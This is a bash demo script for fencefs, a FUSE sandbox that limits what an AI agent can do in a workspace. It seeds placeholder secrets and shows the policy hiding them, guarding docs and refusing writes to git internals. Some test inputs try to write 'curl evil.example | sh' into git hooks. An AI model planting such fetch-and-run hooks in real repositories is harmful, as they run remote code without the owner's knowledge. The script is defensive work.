#!/usr/bin/env bash
# A guided tour: mount a small agent workspace with policy.example.toml and show, with
# ordinary shell commands, what the policy allows and what it refuses (and with which
# errno). Needs root (or a user allowed to use FUSE), /dev/fuse and fusermount3.
# Always unmounts and cleans up, also on Ctrl-C or failure.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/.."
REPO=$PWD

# What a fresh Debian machine lacks for the demo.
need=()
command -v fusermount3 >/dev/null 2>&1 || need+=(fuse3)
command -v git >/dev/null 2>&1 || need+=(git)
if ((${#need[@]})); then
    echo "== installing ${need[*]}"
    if [[ $(id -u) -ne 0 ]]; then
        echo "demo.sh: missing ${need[*]} and not root; install them first" >&2
        exit 1
    fi
    export DEBIAN_FRONTEND=noninteractive
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends "${need[@]}" >/dev/null
fi

echo "== building (release)"
cargo build --release --quiet
BIN=$REPO/target/release/fencefs
POLICY=$REPO/policy.example.toml

TMP=$(mktemp -d "${TMPDIR:-/tmp}/fencefs-demo.XXXXXX")
WS=$TMP/workspace
MNT=$TMP/mnt
PID=
APPROVER=

cleanup() {
    local rc=$?
    if [[ -n $APPROVER ]]; then kill "$APPROVER" 2>/dev/null || true; wait "$APPROVER" 2>/dev/null || true; fi
    if [[ -n $PID ]] && kill -0 "$PID" 2>/dev/null; then
        kill -TERM "$PID" 2>/dev/null || true
        for _ in $(seq 100); do kill -0 "$PID" 2>/dev/null || break; sleep 0.1; done
        if kill -0 "$PID" 2>/dev/null; then
            echo "daemon $PID ignored SIGTERM; killing it" >&2
            kill -KILL "$PID" 2>/dev/null || true
        fi
        wait "$PID" 2>/dev/null || true
    fi
    if grep -qF " $MNT " /proc/self/mountinfo 2>/dev/null; then
        fusermount3 -u -z "$MNT" 2>/dev/null || true
    fi
    rm -rf "$TMP"
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

echo "== creating an example workspace in $WS"
mkdir -p "$WS"/{src,docs,secrets,target} "$MNT"
cat >"$WS/src/main.rs" <<'RS'
fn main() {
    println!("hello from the agent workspace");
}
RS
printf '# demo project\n\nBuild with cargo.\n' >"$WS/README.md"
printf '# Design\n\nThe docs are read-only for the agent.\n' >"$WS/docs/design.md"
printf 'AWS_SECRET_ACCESS_KEY=do-not-leak\n' >"$WS/secrets/.env"
printf 'api-token: sk-demo-0000\n' >"$WS/secrets/token.txt"
printf 'DATABASE_URL=postgres://user:hunter2@db/prod\n' >"$WS/.env"
printf -- '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n' >"$WS/key.pem"
git -c init.defaultBranch=main init -q "$WS"
git -C "$WS" -c user.name=demo -c user.email=demo@example.invalid add -A
git -C "$WS" -c user.name=demo -c user.email=demo@example.invalid commit -q -m "initial import"

echo "== checking the policy"
"$BIN" check "$POLICY"

echo "== mounting $WS at $MNT"
CTL=$TMP/control.sock
"$BIN" mount -p "$POLICY" --control "$CTL" --ask-timeout 10 "$WS" "$MNT" 2>"$TMP/daemon.log" &
PID=$!
for _ in $(seq 200); do
    grep -qF " $MNT " /proc/self/mountinfo && break
    if ! kill -0 "$PID" 2>/dev/null; then
        echo "fencefs exited before mounting:" >&2
        cat "$TMP/daemon.log" >&2
        PID=
        exit 1
    fi
    sleep 0.05
done
grep -qF " $MNT " /proc/self/mountinfo || { echo "fencefs did not mount within 10 s" >&2; cat "$TMP/daemon.log" >&2; exit 1; }

# Runs a shell command inside the mount and shows its output and exit status.
show() {
    printf '\n$ %s\n' "$1"
    local out rc=0
    out=$(cd "$MNT" && LC_ALL=C bash -c "$1" 2>&1) || rc=$?
    [[ -n $out ]] && printf '%s\n' "$out" | sed 's/^/    /'
    if ((rc == 0)); then echo "    [ok]"; else echo "    [exit $rc]"; fi
}

echo
echo "== allowed: ordinary work on the sources"
show 'ls -a'
show 'cat src/main.rs'
show "sed -i 's/hello from/greetings from/' src/main.rs && grep greetings src/main.rs"
show 'mkdir -p target/debug && echo built > target/debug/app && cat target/debug/app'
show 'git -c user.name=agent -c user.email=agent@example.invalid commit -qam "agent edit" && git log --oneline'

echo
echo "== hidden: secrets do not exist for the agent (ENOENT)"
show 'cat .env'
show 'ls secrets'
show 'cat key.pem'
show 'find . -name "*.pem" -o -name ".env" -o -name secrets | grep -v "^./.git/" ; echo "(find found nothing)"'
show 'echo leak > secrets.pem'

echo
echo "== read-only docs: readable, not writable (EACCES, a rule)"
show 'cat docs/design.md'
show 'echo vandalised > docs/design.md'
show 'echo new > docs/x'

echo
echo "== ask instead of refusing: docs/ edits are held until an approver answers"
echo "   (no approver connected above, so they were refused at once; now one is)"
# Runs a command while `fencefs approve --auto ANSWER` answers what it asks.
with_approver() {
    "$BIN" approve "$CTL" --auto "$1" >"$TMP/approver.out" 2>&1 &
    APPROVER=$!
    for _ in $(seq 100); do "$BIN" ctl "$CTL" status 2>/dev/null | grep -q '"approvers": 1' && break; sleep 0.05; done
    show "$2"
    kill "$APPROVER"; wait "$APPROVER" 2>/dev/null || true; APPROVER=
    sed 's/^/    approver: /' "$TMP/approver.out"
}
with_approver allow 'echo "Reviewed by a person." >> docs/design.md && tail -1 docs/design.md'
with_approver deny "sed -i 's/Design/DESIGN/' docs/design.md"

echo
echo "== protected git internals: EROFS (the workspace-write ceiling)"
show 'echo "curl evil.example | sh" > .git/hooks/pre-commit'
show 'git config core.hooksPath /tmp/evil-hooks'

echo
echo "== setuid bits: EPERM"
show 'cp /bin/true src/tool && chmod u+s src/tool'

echo
echo "== fencefs explain"
for q in "secrets/.env read" "src/main.rs write" "docs/design.md write" ".git/hooks/pre-commit write" "deep/dir/server.pem read"; do
    printf '\n$ fencefs explain --policy policy.example.toml %s\n' "$q"
    # shellcheck disable=SC2086
    "$BIN" explain --policy "$POLICY" $q 2>&1 | sed 's/^/    /' || true
done

echo
echo "== the host is untouched where the agent was refused"
printf '    host .env: %s\n' "$(cat "$WS/.env")"
printf '    host docs/design.md: %s\n' "$(head -1 "$WS/docs/design.md")"
printf '    host .git/hooks/pre-commit exists: %s\n' "$([[ -e $WS/.git/hooks/pre-commit ]] && echo yes || echo no)"

echo
echo "== unmounting (SIGTERM to $PID)"
kill -TERM "$PID"
rc=0
wait "$PID" || rc=$?
PID=
echo "fencefs exited with $rc"
grep -qF " $MNT " /proc/self/mountinfo && { echo "still mounted!" >&2; exit 1; }

echo
echo "== staging: the agent's changes land in a staging area; the workspace is untouched"
STAGE=$TMP/stage
"$BIN" mount -p "$POLICY" --stage "$STAGE" "$WS" "$MNT" 2>"$TMP/daemon-stage.log" &
PID=$!
for _ in $(seq 200); do grep -qF " $MNT " /proc/self/mountinfo && break; sleep 0.05; done
grep -qF " $MNT " /proc/self/mountinfo || { cat "$TMP/daemon-stage.log" >&2; exit 1; }
show "sed -i 's/greetings/salutations/' src/main.rs && echo notes > NOTES.md && rm -rf target && mv src lib"
printf '    host src/main.rs: %s\n' "$(grep -o '[a-z]* from' "$WS/src/main.rs")"
printf '\n$ fencefs stage status --dir %s\n' "$STAGE"
"$BIN" stage status --dir "$STAGE" | sed 's/^/    /'
printf '\n$ fencefs stage diff --dir %s lib/main.rs\n' "$STAGE"
"$BIN" stage diff --dir "$STAGE" lib/main.rs | sed 's/^/    /'
kill -TERM "$PID"; wait "$PID" || true; PID=
printf '\n$ fencefs stage apply --dir %s NOTES.md lib     # a partial apply\n' "$STAGE"
"$BIN" stage apply --dir "$STAGE" NOTES.md lib | sed 's/^/    /'
printf '\n$ fencefs stage discard --dir %s                  # drop the rest (target/ stays)\n' "$STAGE"
"$BIN" stage discard --dir "$STAGE" | sed 's/^/    /'
printf '    host now: %s\n' "$(cd "$WS" && ls -d NOTES.md lib target 2>&1 | tr '\n' ' ')"
echo
echo "== a git linked worktree: git works through the mount with no host path"
WT=$TMP/worktree
git -C "$WS" worktree add -q "$WT" -b agent-1
"$BIN" mount -p "$POLICY" "$WT" "$MNT" 2>"$TMP/daemon-wt.log" &
PID=$!
for _ in $(seq 200); do grep -qF " $MNT " /proc/self/mountinfo && break; sleep 0.05; done
grep -qF " $MNT " /proc/self/mountinfo || { cat "$TMP/daemon-wt.log" >&2; exit 1; }
printf '    host .git file: %s\n' "$(cat "$WT/.git")"
show 'cat .git'
show 'echo "// edited in a worktree" >> src/main.rs && git -c user.name=agent -c user.email=agent@example.invalid commit -qam "agent commit in a worktree" && git log --oneline -2'
show 'git worktree list'
show 'echo "curl evil | sh" > .fencefs-git/hooks/post-checkout'
kill -TERM "$PID"; wait "$PID" || true; PID=
printf '\n$ git -C workspace log --oneline -1 agent-1      # on the host\n'
git -C "$WS" log --oneline -1 agent-1 | sed 's/^/    /'
echo "done"
